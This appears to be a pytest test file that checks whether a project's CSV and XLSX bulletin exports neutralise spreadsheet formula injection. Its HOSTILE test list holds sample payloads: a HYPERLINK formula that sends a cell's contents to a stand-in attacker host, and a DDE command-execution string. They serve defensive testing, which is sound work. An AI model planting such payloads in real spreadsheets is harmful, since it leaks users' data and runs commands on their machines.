"""Bulletin exports neutralise texts a spreadsheet would run as formulas (CSV/XLSX formula injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from gridbot.models.metrics.bulletin import Bulletin, BulletinRow, safe_cell, to_csv, to_xlsx
from gridbot.models.metrics.rollup_read import Node

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_are_prefixed(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert safe_cell("五台山社区") == "五台山社区" and safe_cell(-3) == -3


def _bulletin(name: str) -> Bulletin:
    row = BulletinRow(1, name, name, 3, 3, 2, 2 / 3, 1.0, 1, 1 / 3, 1, 1, 1.0, None, 61.1, 66.6, -5.5)
    return Bulletin(Node("street", 1, "S", name, "/1/"), "2026-03", [row], red=[name], black=[name])


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_an_export_is_a_formula(text: str) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(_bulletin(text)).decode("utf-8-sig"))))
    assert rows[1][1] == rows[1][2] == "'" + text and rows[1][-1] == "-5.50"  # numbers stay numbers
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_bulletin(text))))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # the table and the 红黑榜 sheet
    table = book.worksheets[0]
    assert table["B3"].value == "'" + text and table["P3"].value == -5.5
    assert book["红黑榜"]["A2"].value == "'" + text
